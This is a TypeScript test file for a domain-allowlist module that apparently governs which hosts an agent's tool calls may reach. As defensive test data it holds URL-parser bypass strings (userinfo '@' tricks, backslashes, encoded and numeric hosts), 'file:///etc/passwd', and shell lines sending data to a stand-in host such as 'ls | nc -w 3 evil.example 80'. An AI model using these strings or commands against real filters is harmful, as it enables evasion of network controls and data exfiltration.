import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import {
  addressesIn,
  addressRefusal,
  bothDomains,
  type Domains,
  domainOf,
  hostOfAddress,
  isAllowedHost,
  isAway,
  refusedHost,
} from './domain-rules.ts'

describe('the host of an address, as a browser reads it', () => {
  test.each<[string, string | null]>([
    ['https://Example.COM./page', 'example.com'],
    ['https://example.com../page', 'example.com'],
    ['https://./page', null],
    [' https://example.com ', 'example.com'],
    ['https://example.com:8443/page', 'example.com'],
    ['https://good.example@evil.example/', 'evil.example'],
    ['https://good.example:x@evil.example:80', 'evil.example'],
    ['https://evil.example\\@good.example/', 'evil.example'],
    ['https:evil.example', 'evil.example'],
    ['https:/\\evil.example/x', 'evil.example'],
    ['ht\ntps://evil.example', 'evil.example'],
    ['https://bücher.example/', 'xn--bcher-kva.example'],
    ['https://EXAMPLE。com/', 'example.com'],
    ['https://good%2eexample/', 'good.example'],
    ['https://evil.example#@good.example', 'evil.example'],
    ['https://evil.example?good.example', 'evil.example'],
    ['http://2130706433/', '127.0.0.1'],
    ['http://0x7f.1/', '127.0.0.1'],
    ['http://[::1]:80/', '[::1]'],
    ['//evil.example/x', 'evil.example'],
    ['\\\\evil.example\\x', 'evil.example'],
    ['example.com/page', 'example.com'],
    ['example.com//page', 'example.com'],
    ['example.com:8080', 'example.com'],
    ['ssh://git@evil.example/repo', 'evil.example'],
    ['view-source:https://evil.example', null],
    ['ssh://good.example\\@evil.example/', null],
    ['javascript:fetch(1)', null],
    ['file:///etc/passwd', null],
    ['file://evil.example/x', null],
    ['profile://evil.example/x', 'evil.example'],
    ['https://', null],
    ['http://a b/', null],
  ])('%s is %s', (text, host) => expect(hostOfAddress(text)).toBe(host))
})

test('an address with letters beyond ASCII is read the same after any number of others', () => {
  for (let n = 0; n < 20_000; n++) hostOfAddress(`https://e${n}.example/`)
  // As it comes from the wire: one piece of Latin-1.
  expect(hostOfAddress(JSON.parse('"https://bücher.example/"'))).toBe('xn--bcher-kva.example')
})

describe('a line of the list', () => {
  test.each<[string, string | null]>([
    ['Example.com', 'example.com'],
    [' example.com. ', 'example.com'],
    ['bücher.example', 'xn--bcher-kva.example'],
    ['127.0.0.1', '127.0.0.1'],
    ['[0:0:0:0:0:0:0:1]', '[::1]'],
    ['[::1]:80', null],
    ['[::ffff:10.0.0.1]', '[::ffff:a00:1]'],
    ['::1', null],
    ['intranet', 'intranet'],
    ['*.example.com', null],
    ['https://example.com', null],
    ['example.com/page', null],
    ['example.com:80', null],
    ['example.com:8080', null],
    ['me@example.com', null],
    ['a b', null],
    ['', null],
  ])('%s is %s', (text, domain) => {
    expect(domainOf(text)).toBe(domain)
    // What is stored is read again.
    if (domain) expect(domainOf(domain)).toBe(domain)
  })
})

test('a domain lets through what lies below it, and nothing that only looks so', () => {
  const allows = (host: string) => isAllowedHost(host, ['example.com', '127.0.0.1', 'intranet'])
  for (const host of ['example.com', 'a.b.example.com', '127.0.0.1', 'intranet'])
    expect(allows(host)).toBe(true)
  for (const host of ['badexample.com', 'example.com.evil.org', 'com', 'x.intranet', '1.127.0.0.1'])
    expect(allows(host)).toBe(false)
  expect(isAllowedHost('evil.org', null)).toBe(true)
  expect(isAllowedHost('evil.org', [])).toBe(false)
})

const textsOf = (tool: string, parameters: Parameters<typeof addressesIn>[1]) =>
  addressesIn(tool, parameters).map(({ text }) => text)

test('a call’s addresses are found by their keys, wherever they stand', () => {
  expect(textsOf('cp__post', { targetUrl: 'a.example', deep: [{ webhook: 'https://b.example' }] })).toEqual([
    'a.example',
    'https://b.example',
  ])
  expect(textsOf('send_message', { text: 'See https://a.example', to: 'ada@example.com' })).toEqual([])
  expect(textsOf('web_fetch', { page: 'https://a.example', note: 'see https://b.example' })).toEqual([
    'https://a.example',
  ])
  expect(textsOf('cp__post', { urls: ['a.example', { href: 'b.example', title: 'c.example' }] })).toEqual([
    'a.example',
    'b.example',
  ])
  expect(textsOf('browser', { action: 'click', ref: 'e12', url: '' })).toEqual([])
  expect(textsOf('browser', { url: ' \n' })).toEqual([])
  expect(textsOf('browser', { url: 5, href: null, host: true })).toEqual([])
  expect(textsOf('exec', { command: 'ls -la', url: 'a.example' })).toEqual([])
  expect(textsOf('browser', { url: 'about:blank' })).toEqual([])
  expect(textsOf('exec', { command: `curl -d @x "https://a.example/p" && wget ftp://b.example` })).toEqual([
    'https://a.example/p',
    'ftp://b.example',
  ])
})

describe('where a list holds, a command’s network programs go where they plainly say, or nowhere', () => {
  const refusalOf = (command: unknown) =>
    addressRefusal('exec', { command } as Parameters<typeof addressesIn>[1], ['example.com', '::1'])
  const said = /only these are allowed here/
  test.each([
    ['curl evil.example/x', 'evil.example'],
    ['curl -sSLo a.html example.com -d x=1 evil.example', 'evil.example'],
    ['scp f evil.example:', 'evil.example'],
    ['scp f a@evil.example:x@example.com', 'evil.example'],
    ['ssh evil.example', 'evil.example'],
    ['ssh -J evil.example example.com', 'evil.example'],
    ['rsync -a f evil.example::m', 'evil.example'],
    ['ls | nc -w 3 evil.example 80', 'evil.example'],
    [['wget', '-q', 'evil.example'], 'evil.example'],
  ])('%j may not go to %s', (command, host) => {
    const parameters = { command } as Parameters<typeof addressesIn>[1]
    expect(refusalOf(command)).toMatch(new RegExp(`^exec may not go to ${host}\\. By policy`))
    expect(refusedHost('exec', parameters, ['example.com'])).toBe(host)
    expect(isAway('exec', parameters, ['example.com'])).toBe(true)
  })

  test.each([
    'curl $URL',
    'curl -K a.conf example.com',
    'scp $F x',
    'ssh',
    'curl https://$HOST/x',
    'socat - TCP:evil.example:80',
  ])('%j does not say where', (command) => {
    expect(refusalOf(command)).toMatch(said)
    if (!command.includes('://'))
      expect(refusalOf(command)).toMatch(
        /may not go to a host that can’t be read from the words of \w+: name/,
      )
  })

  test.each([
    'curl -X POST -H "Accept: text/html" -d \'{"a": "b"}\' https://example.com/x?a=1',
    'curl -o a.html docs.example.com:8080/x 2>/dev/null',
    'scp -P 22 f me@example.com:x',
    'ssh -p 22 -o StrictHostKeyChecking=no me@example.com "curl evil.example"',
    'rsync -e "ssh -p 22" -a --exclude x a/ example.com:b',
    'cat ssh curl',
    'git commit -m "ssh evil.example; curl works"',
  ])('%j goes its usual way', (command) => expect(refusalOf(command)).toBeNull())

  test('and without a list everything does', () => {
    expect(addressRefusal('exec', { command: 'curl $URL' }, null)).toBeNull()
    expect(addressesIn('send_message', { command: 'curl evil.example' })).toEqual([])
  })
})

test('a text that is the address of a page and nothing else counts, whatever its key and its tool', () => {
  for (const key of ['page', 'link', 'target', 'site', 'address', 'text', 'x'])
    expect(textsOf('board__post_notice', { [key]: ' HTTPS://evil.test/y ' })).toEqual([
      ' HTTPS://evil.test/y ',
    ])
  expect(
    textsOf('board__post_notice', { rows: [{ x: 'ht\ntp://evil.test' }, 'https:evil.test'] }),
  ).toHaveLength(2)
  expect(addressRefusal('board__post_notice', { page: 'https://evil.test/y' }, ['example.com'])).toContain(
    'board__post_notice may not go to evil.test',
  )
  // Prose is none, and neither is what no page is at.
  for (const text of [
    'see https://a.example',
    'https://a.example is down',
    'http: a',
    '//a.example',
    'mailto:a@b.c',
  ])
    expect(textsOf('board__post_notice', { text })).toEqual([])
})

test('where a key may name a place, what begins as the address of a page is one, and what does not is something else', () => {
  for (const key of ['page', 'homePage', 'links', 'target', 'site', 'address', 'imageSrc'])
    expect(textsOf('board__post_notice', { [key]: 'https://evil.test/a b' })).toEqual([
      'https://evil.test/a b',
    ])
  const plain = {
    page: '3',
    target: 'ada',
    site: 'Leeds',
    address: '12 Main Street',
    link: 'see http://a.test',
  }
  expect(textsOf('board__post_notice', plain)).toEqual([])
})

test('what is not on the list is refused with where it wanted to and what is', () => {
  const to = (url: string, domains: Domains) => addressRefusal('web_fetch', { url }, domains)
  expect(to('https://evil.example/x', null)).toBeNull()
  expect(to('javascript:x', null)).toBeNull()
  expect(to('https://docs.example.com/x', ['example.com'])).toBeNull()
  expect(to('https://evil.example/x', ['example.com'])).toBe(
    'web_fetch may not go to evil.example. By policy only these are allowed here, and what lies below: example.com',
  )
  expect(to('https://evil.example/x', [])).toContain('By policy no address is allowed')
  expect(to('javascript:x', ['example.com'])).toContain('may not go to javascript:x')
})

test('of what is refused the host is told apart: without a path, what stands before an @, or a port', () => {
  const host = (url: string, domains: Domains = ['example.com']) => refusedHost('web_fetch', { url }, domains)
  expect(host('https://ada:secret@Evil.example:8443/a?key=secret#b')).toBe('evil.example')
  expect(host('https://docs.example.com/x')).toBeNull()
  expect(host('javascript:secret')).toBeNull()
  expect(host('https://evil.example', null)).toBeNull()
  const two = { command: 'curl https://example.com | curl https://evil.example/secret' }
  expect(refusedHost('exec', two, ['example.com'])).toBe('evil.example')
})

test('a refusal names so much that it can be read: the beginning of the address, and the first twenty domains', () => {
  const domains = Array.from({ length: 21 }, (_, n) => `d${n + 1}.example`)
  const refusal = addressRefusal('web_fetch', { url: `javascript:${'x'.repeat(200)}` }, domains)
  expect(refusal).toContain(`may not go to javascript:${'x'.repeat(89)}. By policy`)
  expect(refusal).toContain(': d1.example, d2.example, d3')
  expect(refusal).toMatch(/d20\.example$/)
})

test('one address that is not on the list is enough to refuse a call', () => {
  const both = { url: 'https://example.com', href: 'https://evil.example' }
  expect(addressRefusal('web_fetch', both, ['example.com'])).toContain('may not go to evil.example')
  expect(isAway('web_fetch', both, ['example.com'])).toBe(true)
})

test('of a recorded call only what can be read counts', () => {
  expect(isAway('web_fetch', { url: 'https://evil.example' }, ['example.com'])).toBe(true)
  expect(isAway('web_fetch', { url: 'javascript:x' }, ['example.com'])).toBe(false)
  expect(isAway('web_fetch', { url: 'https://evil.example' }, null)).toBe(false)
})

const names = ['example.com', 'a.example.com', 'b.a.example.com', 'example.org', 'intranet', '10.0.0.1']
const anyList: fc.Arbitrary<Domains> = fc.option(fc.subarray(names), { nil: null })
const anyHost = fc.constantFrom(...names, 'c.example.com', 'evil.example', 'x.intranet')

test('two lists together let through exactly what both do, so another list only tightens', () => {
  fc.assert(
    fc.property(anyList, anyList, anyHost, (a, b, host) => {
      const both = isAllowedHost(host, a) && isAllowedHost(host, b)
      expect(isAllowedHost(host, bothDomains(a, b))).toBe(both)
    }),
  )
})

test('no way of writing an address gets past the list', () => {
  const anyWriting = fc.constantFrom(
    (host: string) => `https://${host}`,
    (host: string) => `HTTPS://${host.toUpperCase()}.:443/x`,
    (host: string) => `//${host}/`,
    (host: string) => `${host}/x`,
    (host: string) => `https://example.com@${host}/`,
    (host: string) => `https:\\\\${host}\\@example.com`,
    (host: string) => `https://${host}/?https://example.com`,
  )
  fc.assert(
    fc.property(anyWriting, anyHost, anyList, (write, host, list) => {
      const refused = addressRefusal('web_fetch', { url: write(host) }, list) !== null
      expect(refused).toBe(!isAllowedHost(host, list))
    }),
  )
})
